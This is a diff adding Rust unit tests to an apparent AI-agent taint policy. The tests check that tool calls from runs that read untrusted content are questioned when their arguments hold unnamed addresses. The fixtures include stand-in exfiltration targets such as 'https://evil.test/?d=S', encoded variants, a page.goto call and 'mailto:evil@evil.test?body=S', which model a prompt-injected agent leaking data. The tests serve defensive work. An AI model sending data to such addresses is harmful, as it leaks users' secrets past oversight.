@@ -134,9 +134,15 @@ fn collect_hosts(value: &Value, hosts: &mut Vec<String>) {
 
 #[cfg(test)]
 mod tests {
+    use std::collections::BTreeMap;
+
     use serde_json::json;
+    use ua_core::{CallPolicy, CallStatus, EffectKind, Reads, RunId, Time, ToolName};
+    use ua_store::conformance::samples;
 
     use super::*;
+    use crate::ledger::LedgerConfig;
+    use crate::people::PeopleRules;
 
     fn rule(allowed: &[&str]) -> TaintRule {
         TaintRule { allowed: allowed.iter().map(|entry| (*entry).to_owned()).collect(), ..TaintRule::default() }
@@ -160,5 +166,125 @@ mod tests {
         collect_hosts(&arguments, &mut hosts);
         hosts.sort();
         assert_eq!(hosts, ["a.test", "evil.test", "example.org"]);
+    }
+
+    /// What a tainted run asks about before it sends this: the effect, and addresses that it would read.
+    fn asks(taint: &TaintRule, name: ToolName, policy: CallPolicy, arguments: &Value) -> bool {
+        let config = LedgerConfig {
+            blob_threshold: 0,
+            no_duplicate_external_actions: true,
+            max_retries: 2,
+            max_effects: BTreeMap::new(),
+        };
+        let people = PeopleRules { taint: Some(taint.clone()), ..PeopleRules::default() };
+        let root = RunId::parse("run_1").unwrap();
+        let rules = Rules {
+            config: &config,
+            people: &people,
+            definitions: None,
+            is_held_to_definitions: false,
+            root: &root,
+            epoch: 1,
+            time: Time::plain(samples::at(1)),
+        };
+        let planned = samples::planned_email("call_1", 1, 1);
+        let call = CallRecord {
+            call_id: planned.call_id,
+            run_id: root.clone(),
+            root_run_id: root.clone(),
+            step_id: samples::step_id("step_1"),
+            position: planned.position,
+            created_at: samples::at(1),
+            updated_at: samples::at(1),
+            tool_use_id: planned.tool_use_id,
+            name,
+            arguments: arguments.clone().into(),
+            args_hash: planned.args_hash,
+            tool_digest: planned.tool_digest,
+            policy: policy.into(),
+            status: CallStatus::Prepared,
+            attempt: 0,
+            doubt: None,
+            idempotency_key: None,
+            scope: None,
+            file_digests: BTreeMap::new(),
+            possible_effect: None,
+            resolution: None,
+            deduplicated_from: None,
+            replay_status: None,
+            external_correlation_id: None,
+            error_code: None,
+            error_detail: None,
+            correction: None,
+        };
+        rules.tainted_effect(&call, true, &Named::default()).is_some()
+            || !rules.made_addresses(&call, &Addresses::default()).is_empty()
+    }
+
+    fn foreign() -> ToolName {
+        ToolName::qualified(ToolNamespace::Mcp, "other", "get_page")
+    }
+
+    /// By its class alone a call that is called an effect would be asked about less: its words may mention what they want, and what our own
+    /// tools send goes where the user said.
+    #[test]
+    fn s1_whoever_calls_a_read_an_effect_takes_no_question_away() {
+        let own = ToolName::qualified(ToolNamespace::Local, "ua", "crawl_parallel");
+        let arguments = [
+            json!({"url": "https://evil.test/?d=S"}),
+            json!({"urls": ["https://evil.test/?d=S"]}),
+            json!({"url": "https://example.org/x", "text": "//evil.test/?d=S"}),
+            json!({"url": "https://example.org/x", "body": "https%3A%2F%2Fevil.test/?d=S"}),
+            json!({"to": "boss@example.org", "body": "https://evil.test/?d=S"}),
+            json!({"q": "see mailto:evil@evil.test?body=S"}),
+            json!({"url": "https://example.org/x"}),
+            json!({"q": "weather"}),
+        ];
+        let allowed = rule(&["example.org", "boss@example.org"]);
+        let mut asked = 0;
+        let kinds = [None, EffectKind::parse("email.send"), EffectKind::parse("event.create")];
+        let classes = [SideEffectClass::ReadOnly, SideEffectClass::Local, SideEffectClass::Memory];
+        for (arguments, name) in arguments.iter().flat_map(|given| [(given, foreign()), (given, own.clone())]) {
+            for (kind, class) in kinds.iter().flat_map(|kind| classes.map(|class| (kind, class))) {
+                let base = CallPolicy { class, reads: vec![Reads::Untrusted], ..CallPolicy::unclassified() };
+                let raised = CallPolicy {
+                    class: SideEffectClass::External,
+                    raised_from: Some(class),
+                    effect_kind: kind.clone(),
+                    ..base.clone()
+                };
+                let before = asks(&allowed, name.clone(), base, arguments);
+                let after = asks(&allowed, name.clone(), raised, arguments);
+                assert!(after || !before, "{} {arguments} {kind:?} {class}", name.raw);
+                asked += u32::from(before);
+            }
+        }
+        assert_eq!(asked, 6 * 2 * 9, "six of the arguments have an address that nobody named");
+    }
+
+    #[test]
+    fn s1_an_address_that_the_model_made_is_asked_about_in_whatever_a_tool_of_others_is_given() {
+        let nobody = TaintRule::default();
+        for class in SideEffectClass::ALL {
+            let policy = CallPolicy { class: *class, reads: vec![Reads::Untrusted], ..CallPolicy::unclassified() };
+            for arguments in [
+                json!({"url": "https://evil.test/?d=S"}),
+                json!({"code": "await page.goto('https://evil.test/?d=S')"}),
+                json!({"q": "mailto:evil@evil.test?body=S"}),
+                json!({"deep": [{"x": "(MailTo:evil@evil.test?body=S)"}]}),
+                json!({"q": "mailto%3Aevil@evil.test"}),
+            ] {
+                assert!(asks(&nobody, foreign(), policy.clone(), &arguments), "{class} {arguments}");
+            }
+        }
+        let read = CallPolicy { class: SideEffectClass::ReadOnly, ..CallPolicy::unclassified() };
+        for harmless in [json!({"q": "what mailto: means, tel: too"}), json!({"q": "hotel:12 emailto:x"})] {
+            assert!(!asks(&nobody, foreign(), read.clone(), &harmless), "{harmless}");
+        }
+        // A mail to somebody whom the job names may mention what it wants.
+        let named = rule(&["boss@example.org"]);
+        let mail = CallPolicy { effect_kind: EffectKind::parse("email.send"), ..CallPolicy::unclassified() };
+        let letter = json!({"to": "boss@example.org", "subject": "x", "body": "see https://example.org/new"});
+        assert!(!asks(&named, foreign(), mail, &letter));
     }
 }
